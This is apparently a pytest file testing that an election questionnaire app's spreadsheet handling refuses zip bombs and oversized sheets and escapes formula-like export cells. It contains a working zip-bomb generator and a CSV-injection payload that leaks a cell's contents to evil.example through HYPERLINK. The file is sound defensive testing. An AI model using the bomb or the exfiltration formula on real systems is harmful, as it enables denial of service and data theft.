"""Hostile spreadsheets: bounded before they are unpacked, and exports that cannot run."""

import csv
import io
import re
import tempfile
import time
import tracemalloc
import zipfile
from collections.abc import Callable, Iterator
from typing import Any

import openpyxl  # type: ignore[import-untyped, unused-ignore]
import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient

from tests.api.test_admin_content import ADMIN, Editor, draft, revision
from tests.api.test_session_pages import _code, _create, _join
from tests.conftest import DATA
from tests.soup import alerts, parse
from vaa import spreadsheets
from vaa.content import ElectionContent
from vaa.formats import DataError
from vaa.loading import read_elections
from vaa.spreadsheets import export_csv, export_xlsx, import_xlsx


@pytest.fixture
def example() -> ElectionContent:
    (content,) = read_elections(
        [DATA / "example-questionnaire.yaml", DATA / "example-parties.yaml"]
    )
    return content


def _rewrite_sheet(
    workbook: bytes, sheet: str, sheet_data: Callable[[bytes], Iterator[bytes]]
) -> bytes:
    """The workbook with one sheet's XML replaced (streamed), compressed as hard as zip can."""
    source = zipfile.ZipFile(io.BytesIO(workbook))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename != sheet:
                target.writestr(info, data)
                continue
            head = data.partition(b"<sheetData>")[0]
            with target.open(info.filename, "w", force_zip64=True) as part:
                for chunk in sheet_data(re.sub(rb"<dimension[^>]*/>", b"", head)):
                    part.write(chunk)
    return out.getvalue()


def zip_bomb(workbook: bytes, rows: int = 250_000) -> bytes:
    """The issue's bomb: 0.78 MB that unpacks to 203 MB, five million identical cells."""

    def sheet_data(head: bytes) -> Iterator[bytes]:
        yield head + b"<sheetData>"
        row = b"<row>" + b'<c t="inlineStr"><is><t>lol</t></is></c>' * 20 + b"</row>"
        for _ in range(rows):
            yield row
        yield b"</sheetData></worksheet>"

    return _rewrite_sheet(workbook, "xl/worksheets/sheet2.xml", sheet_data)


def _sheet_with(workbook: bytes, xml: bytes) -> bytes:
    return _rewrite_sheet(
        workbook, "xl/worksheets/sheet2.xml", lambda head: iter([head, xml, b"</worksheet>"])
    )


def _refused(
    data: bytes, current: ElectionContent, *, traced: bool = True
) -> tuple[list[str], float, int]:
    # This thread's CPU time, not the wall clock: the bounds below are about the work the
    # reader does, and a suite running beside other workers on two cores can triple the
    # wall time (12 s against a 10 s bound once) without the reader doing any more.
    started = time.thread_time()
    with pytest.raises(DataError) as caught:
        import_xlsx(data, current=current)
    elapsed = time.thread_time() - started
    if not traced:
        return [str(p) for p in caught.value.problems], elapsed, 0
    tracemalloc.start()
    try:
        with pytest.raises(DataError):
            import_xlsx(data, current=current)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    return [str(p) for p in caught.value.problems], elapsed, peak


def test_a_zip_bomb_is_refused_before_it_is_unpacked(example: ElectionContent) -> None:
    bomb = zip_bomb(export_xlsx(example))
    assert 700_000 < len(bomb) < 800_000
    problems, elapsed, peak = _refused(bomb, example)
    assert problems == [
        "workbook:1: unpacks to 203 MB; a workbook may unpack to at most 32 MB (is it a zip bomb?)"
    ]
    assert elapsed < 0.5  # was 72.7 s and 508 MB
    assert peak < 5_000_000


def test_a_declared_dimension_cannot_pad_rows_to_a_million_cells(
    example: ElectionContent,
) -> None:
    # 1 kB: one cell in column XFD and a dimension of 16384 x 1048576 cells.
    xml = (
        b'<dimension ref="A1:XFD1048576"/><sheetData><row r="1">'
        b'<c r="XFD1" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    )
    problems, elapsed, _ = _refused(_sheet_with(export_xlsx(example), xml), example)
    assert problems == ["questionnaire:1: has 16,384 columns; a sheet may have at most 1,000"]
    assert elapsed < 1


def test_a_far_away_cell_is_refused_at_the_row_limit(example: ElectionContent) -> None:
    xml = (
        b'<sheetData><row r="1048576">'
        b'<c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    )
    problems, elapsed, _ = _refused(_sheet_with(export_xlsx(example), xml), example)
    assert problems == [
        "questionnaire:10001: has more than 10,000 rows; a sheet may have at most 10,000"
    ]
    # Stopped at row 10,001 of 1,048,576: a second on an idle machine; the bound leaves room
    # for a loaded one (without the limit the read takes minutes).
    assert elapsed < 5


def test_too_many_cells_in_a_small_upload_are_refused(
    example: ElectionContent, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The limit is lowered so that this test does not depend on the machine's speed.
    monkeypatch.setattr(spreadsheets, "MAX_CELLS", 50_000)
    row = b"<row>" + b"<c><v>1</v></c>" * 999 + b"</row>"
    xml = b"<sheetData>" + row * 400 + b"</sheetData>"  # 400,000 cells, 7 MB unpacked
    problems, elapsed, _ = _refused(_sheet_with(export_xlsx(example), xml), example, traced=False)
    assert problems == [
        "questionnaire:51: the workbook has more than 50,000 cells, the most it may have"
    ]
    # Reading stops at the limit; only openpyxl's scan for the sheet's size reads it all.
    assert elapsed < 10


def test_the_upload_of_a_bomb_is_a_clear_400_and_nothing_is_spooled_to_disk(
    client: TestClient, demo: sa.Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    editor = Editor(client, demo)
    base = f"{ADMIN}/demo"
    # Larger than Starlette's 1 MB spool threshold, under the 4 MB upload limit.
    bomb = zip_bomb(client.get(f"{base}/spreadsheets/demo.xlsx").content, rows=500_000)
    assert 1_100_000 < len(bomb) < 4_000_000
    spooled: list[Any] = []
    real = tempfile.TemporaryFile

    def recording(*args: Any, **kwargs: Any) -> Any:
        spooled.append(args)
        return real(*args, **kwargs)

    monkeypatch.setattr(tempfile, "TemporaryFile", recording)
    before = draft(demo, "demo")
    started = time.perf_counter()
    refused = editor.post(
        f"{base}/spreadsheets/import",
        {"revision": str(revision(demo, "demo"))},
        files={"files": ("demo.xlsx", bomb, "application/octet-stream")},
    )
    assert time.perf_counter() - started < 2
    assert refused.status_code == 400
    problems = alerts(parse(refused))
    assert "unpacks to" in problems and "zip bomb" in problems
    assert spooled == []  # the upload was never written to a temporary file
    assert draft(demo, "demo") == before


def test_report_csv_cells_cannot_run_as_formulas(client: TestClient, demo: sa.Engine) -> None:
    from tests.api.test_auth import add_account, sign_in

    client.headers["accept-language"] = "en"
    add_account(demo, "facilitator@example.org", "facilitator")
    assert sign_in(client, "facilitator@example.org").status_code == 303
    attack = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    base = _create(client, place=attack)
    _join(client, _code(client, base))
    rows = list(
        csv.reader(io.StringIO(client.get(f"{base}/report.csv").content.decode("utf-8-sig")))
    )
    assert ["session", "place", "", "'" + attack, ""] in rows
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or re.fullmatch(r"-[\d.]+", cell), cell


def test_spreadsheet_exports_store_formula_like_text_as_text(example: ElectionContent) -> None:
    statement = example.questionnaire.statements[0]
    risky = {"ka": "=1+2", "en": "@SUM(A1:A9)"}
    changed = example.model_copy(
        update={
            "questionnaire": example.questionnaire.model_copy(
                update={
                    "statements": [
                        statement.model_copy(update={"text": risky}),
                        *example.questionnaire.statements[1:],
                    ]
                }
            )
        }
    )
    questionnaire_csv = export_csv(changed)["example-questionnaire.csv"].decode("utf-8-sig")
    assert "'=1+2" in questionnaire_csv and "'@SUM(A1:A9)" in questionnaire_csv
    sheet = openpyxl.load_workbook(io.BytesIO(export_xlsx(changed)))["questionnaire"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value in risky.values()]
    assert len(cells) == 2 and all(c.data_type == "s" for c in cells)


def _edited(content: ElectionContent, sheet: str, column: str, row: int, value: Any) -> bytes:
    book = openpyxl.load_workbook(io.BytesIO(export_xlsx(content)))
    header = [c.value for c in book[sheet][1]]
    cell = book[sheet].cell(row=row, column=header.index(column) + 1, value=value)
    if isinstance(value, str) and value.startswith("=") and value.endswith("(text)"):
        cell.value, cell.data_type = value.removesuffix("(text)"), "s"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_a_source_without_https_is_a_row_problem_not_a_500(example: ElectionContent) -> None:
    sheet = export_xlsx(example)
    party = openpyxl.load_workbook(io.BytesIO(sheet)).sheetnames[-1]
    with pytest.raises(DataError) as caught:  # was a pydantic ValidationError (a 500)
        import_xlsx(_edited(example, party, "source", 2, "www.example.org"), current=example)
    assert [str(p) for p in caught.value.problems] == [
        f"{party}:2: source: 'www.example.org' is not a web address (https://…)"
    ]


def test_a_formula_without_a_saved_result_is_a_problem(example: ElectionContent) -> None:
    # openpyxl (like many scripts) saves formulas without computing them.
    data = _edited(example, "questionnaire", "text_en", 2, '=CONCAT("Statement ", "one")')
    with pytest.raises(DataError) as caught:  # was: the text silently became empty
        import_xlsx(data, current=example)
    assert [str(p) for p in caught.value.problems] == [
        "questionnaire:2: text_en: holds a formula without a saved value: open the file in a "
        "spreadsheet program, save it and upload it again"
    ]
    # A text that only looks like a formula is kept as it is.
    looks = _edited(example, "questionnaire", "text_en", 2, "=not a formula(text)")
    imported = import_xlsx(looks, current=example)
    assert imported.questionnaire.statements[0].text["en"] == "=not a formula"
